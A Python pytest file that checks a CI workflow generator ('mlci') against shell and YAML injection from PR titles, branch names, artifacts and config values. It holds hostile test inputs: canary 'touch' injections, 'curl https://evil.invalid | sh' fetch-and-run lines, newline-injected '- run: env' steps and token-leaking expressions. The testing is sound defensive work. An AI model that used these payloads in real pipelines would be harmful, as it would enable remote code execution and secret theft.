"""An attacker-controlled PR title / branch name cannot execute in any generated workflow.

Every `run:` script (GitHub) and `script:` (GitLab) runs under bash the way the forge runs it,
with every `${{ ... }}` expression and every event-derived variable set to a hostile string.
`mlci`, `python` and `git` are stub executables that record their arguments.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from mlci.ci.generate import rendered
from mlci.project.context import Project
from support.commands import mlci
from support.projects import VARIANTS, make_project

EXPRESSION = re.compile(r"\$\{\{.*?\}\}", re.DOTALL)
STUB = """#!/bin/sh
{ printf '%s' "${0##*/}"; for a in "$@"; do printf '\\t%s' "$a"; done
  printf '\\n'; } >> "$STUB_LOG"
[ "${0##*/}" = git ] && echo 0123456789abcdef0123456789abcdef01234567
exit 0
"""
# GitLab variables a merge request's author controls
GITLAB_HOSTILE = ("CI_COMMIT_BRANCH", "CI_COMMIT_REF_NAME", "CI_COMMIT_MESSAGE",
                  "CI_COMMIT_TITLE", "CI_MERGE_REQUEST_TITLE", "CI_MERGE_REQUEST_DESCRIPTION",
                  "CI_MERGE_REQUEST_SOURCE_BRANCH_NAME", "CI_MERGE_REQUEST_DIFF_BASE_SHA")


def payloads(canary: Path) -> list[str]:
    return [f'x"; touch {canary}1; echo "', f"$(touch {canary}2)", f"`touch {canary}3`",
            f"x'; touch {canary}4; echo '", f"main\ntouch {canary}5"]


class Runner:
    """Runs scripts in a work tree under bash, with stub tools and a hostile value."""

    def __init__(self, tmp: Path, hostile: str) -> None:
        self.work, self.bin, self.temp = tmp / "work", tmp / "bin", tmp / "runner-temp"
        for directory in (self.work, self.bin, self.temp / "mlci-report"):
            directory.mkdir(parents=True, exist_ok=True)
        for name in ("mlci", "python", "git"):
            (self.bin / name).write_text(STUB)
            (self.bin / name).chmod(0o755)
        self.log = tmp / "calls.log"
        self.hostile = hostile
        # what a hostile fork's train run can put in its artifact
        for name in ("pr-number", "report.md", "gate.json"):
            (self.temp / "mlci-report" / name).write_text(hostile)

    def env(self, extra: dict[str, str]) -> dict[str, str]:
        base = {"PATH": f"{self.bin}:{os.environ['PATH']}", "HOME": str(self.work),
                "STUB_LOG": str(self.log), "RUNNER_TEMP": str(self.temp),
                "GITHUB_OUTPUT": str(self.work / "output"),
                "GITHUB_STEP_SUMMARY": str(self.work / "summary"),
                "GITHUB_HEAD_REF": self.hostile, "GITHUB_REF_NAME": self.hostile}
        return {**base, **extra}

    def bash(self, script: str, env: dict[str, str]) -> int:
        # GitHub's `shell: bash` default; GitLab runs its script lines under bash too
        proc = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
                              cwd=self.work, env=self.env(env), capture_output=True, text=True,
                              timeout=30)
        return proc.returncode

    def calls(self) -> list[list[str]]:
        text = self.log.read_text() if self.log.exists() else ""
        return [line.split("\t") for line in text.splitlines()]


def github_steps(text: str) -> list[dict[str, Any]]:
    """Every step with a `run:` in a workflow, jobs in order."""
    data = yaml.safe_load(text)
    return [step for job in data["jobs"].values() for step in job["steps"] if "run" in step]


def run_github_step(runner: Runner, step: dict[str, Any]) -> int:
    """As the runner does: expressions are substituted first, then bash runs the script."""
    def substitute(value: str) -> str:
        return EXPRESSION.sub(lambda _: runner.hostile, value)
    env = {str(k): substitute(str(v)) for k, v in (step.get("env") or {}).items()}
    return runner.bash(substitute(step["run"]), env)


def gitlab_scripts(text: str) -> list[str]:
    data = yaml.safe_load(text)
    before = data.get("default", {}).get("before_script", [])
    jobs = [job for name, job in data.items() if isinstance(job, dict) and "script" in job]
    return ["\n".join([*before, *job["script"]]) for job in jobs]


@pytest.mark.parametrize("variant", VARIANTS)
def test_no_expression_inside_any_run(tmp_path: Path, variant: str) -> None:
    files = rendered(Project(make_project(tmp_path / "proj", variant)))
    steps = [s for rel, text in files.items() if rel.startswith(".github/workflows/")
             for s in github_steps(text)]
    assert len(steps) >= 15
    for step in steps:
        assert "${{" not in step["run"], step


@pytest.mark.parametrize("variant", VARIANTS)
def test_hostile_event_fields_do_not_execute(tmp_path: Path, variant: str) -> None:
    files = rendered(Project(make_project(tmp_path / "proj", variant)))
    canary = tmp_path / "pwned"
    for index, hostile in enumerate(payloads(canary)):
        runner = Runner(tmp_path / f"run{index}", hostile)
        for rel, text in files.items():
            if rel.startswith(".github/workflows/"):
                for step in github_steps(text):
                    run_github_step(runner, step)
            elif rel == ".gitlab-ci.yml":
                env = dict.fromkeys(GITLAB_HOSTILE, hostile)
                for script in gitlab_scripts(text):
                    runner.bash(script, {**env, "CI_PIPELINE_SOURCE": "merge_request_event"})
        assert not list(tmp_path.glob("pwned*")), f"{hostile!r} executed"
        # the value reached the tools as one argument, intact, where it is passed at all
        passed = [arg for call in runner.calls() for arg in call if hostile in arg]
        assert hostile in passed or "\n" in hostile


def test_hostile_pr_number_in_the_artifact_is_refused(tmp_path: Path) -> None:
    files = rendered(Project(make_project(tmp_path / "proj", "default")))
    check = next(s for s in github_steps(files[".github/workflows/mlci-comment.yml"])
                 if s.get("id") == "artifact")
    runner = Runner(tmp_path / "run", '1; touch pwned')
    assert run_github_step(runner, check) == 1
    (runner.temp / "mlci-report" / "pr-number").write_text("42\n")
    assert run_github_step(runner, check) == 0
    assert (runner.work / "output").read_text() == "pr=42\n"


def test_the_harness_catches_an_injectable_step(tmp_path: Path) -> None:
    """Positive control: an expression inside `run:`, as GitHub expands it, does execute."""
    canary = tmp_path / "pwned"
    runner = Runner(tmp_path / "run", payloads(canary)[0])
    run_github_step(runner, {"run": 'echo "${{ github.event.pull_request.title }}"'})
    assert Path(f"{canary}1").exists()


# Values that would reach a generated file from mlci.yaml or dvc.yaml, as an attacker (or a
# careless edit) writes them: each must be refused with the file, the key and a hint, and no
# file may be written. (Before whole-string checks, a model name went into `run:` and a stage
# with a newline became a new step of the publish job, which holds `contents: write`.)
HOSTILE_MODELS = [
    "m${{ github.event.head_commit.message }}",
    "m\n      - run: curl https://evil.invalid | sh",
    "m'; curl https://evil.invalid | sh; '",
    "m\u2028x",
]


@pytest.mark.parametrize("name", HOSTILE_MODELS)
def test_a_hostile_model_name_in_dvc_yaml_is_refused(tmp_path: Path, name: str) -> None:
    root = make_project(tmp_path / "proj", "default")
    with (root / "dvc.yaml").open("a") as handle:
        handle.write(f"  {json.dumps(name)}:\n    path: models/model.pkl\n    type: model\n")
    result = mlci("ci", "generate", cwd=root, expect=1)
    assert f"mlci: error: dvc.yaml: artifacts: {name!r}: not a valid model name" in result.stderr
    assert "hint: model names are letters, digits, '-', '_' and '/'" in result.stderr
    assert "Traceback" not in result.stderr
    assert not (root / ".github").exists() and not (root / ".gitlab-ci.yml").exists()


@pytest.mark.parametrize(("setting", "key"), [
    ("publish:\n  stages: [\"staging\\n      - run: env\", prod]\n", "publish.stages[0]"),
    ("publish:\n  compare_to: \"prod\\n\"\n", "publish.compare_to"),
    ("publish:\n  compare_to: 'p${{ github.event.head_commit.message }}'\n",
     "publish.compare_to"),
    ("default_branch: \"main\\n    tags: ['*']\"\n", "default_branch"),
    ("ci:\n  runs_on: ['${{ github.event.pull_request.title }}']\n", "ci.runs_on[0]"),
    ("ci:\n  python: \"3.11\\n\"\n", "ci.python"),
    ("ci:\n  dvc_remote_secrets: [github_token]\n", "ci.dvc_remote_secrets[0]"),
    ("sweep:\n  params: {'a${{ github.token }}': [1]}\n  rank_by: x\n",
     "sweep.params.a${{ github.token }}"),
    ("sweep:\n  params: {train.C: ['$(curl https://evil.invalid)']}\n  rank_by: x\n",
     "sweep.params.train.C[0]"),
    ("sweep:\n  params: {train.C: [\"1\\n      - run: env\"]}\n  rank_by: x\n",
     "sweep.params.train.C[0]"),
    ("sweep:\n  params: {train.C: ['${CI_JOB_TOKEN}']}\n  rank_by: x\n",
     "sweep.params.train.C[0]"),
])
def test_a_hostile_mlci_yaml_value_is_refused(tmp_path: Path, setting: str, key: str) -> None:
    root = make_project(tmp_path / "proj", "default")
    (root / "mlci.yaml").write_text(setting)
    result = mlci("ci", "generate", cwd=root, expect=1)
    assert re.search(rf"mlci: error: mlci\.yaml:\d+: {re.escape(key)}: not valid here: ",
                     result.stderr), result.stderr
    assert "\nhint: " in result.stderr and "Traceback" not in result.stderr
    assert not (root / ".github").exists() and not (root / ".gitlab-ci.yml").exists()


def test_names_reach_steps_only_through_env(tmp_path: Path) -> None:
    """Model, stage and branch names are step environment, never text of a script."""
    files = rendered(Project(make_project(tmp_path / "proj", "hostile")))
    scripts = [s["run"] for rel, text in files.items() if rel.startswith(".github/workflows/")
               for s in github_steps(text)] + gitlab_scripts(files[".gitlab-ci.yml"])
    for value in ("team/clf-2_b", "0model9", "classifier", "pre-prod_1/a", "release/v1.2-rc_3"):
        assert not [s for s in scripts if value in s], value
    publish = yaml.safe_load(files[".github/workflows/mlci-publish.yml"])["jobs"]["publish"]
    steps = [s for s in publish["steps"] if s.get("run", "").startswith("mlci publish")]
    assert [(s["name"], s["env"]["MLCI_MODEL"], s["env"]["MLCI_STAGE"]) for s in steps] == [
        (f"Publish {m}", m, "pre-prod_1/a") for m in ("0model9", "classifier", "team/clf-2_b",
                                                      "true")]
    assert {s["run"] for s in steps} == {
        'mlci publish "$MLCI_MODEL" --bump patch --stage "$MLCI_STAGE"'}
    gitlab = yaml.safe_load(files[".gitlab-ci.yml"])["publish"]["variables"]
    assert gitlab == {"MLCI_MODEL_1": "0model9", "MLCI_MODEL_2": "classifier",
                      "MLCI_MODEL_3": "team/clf-2_b", "MLCI_MODEL_4": "true",
                      "MLCI_STAGE": "pre-prod_1/a"}
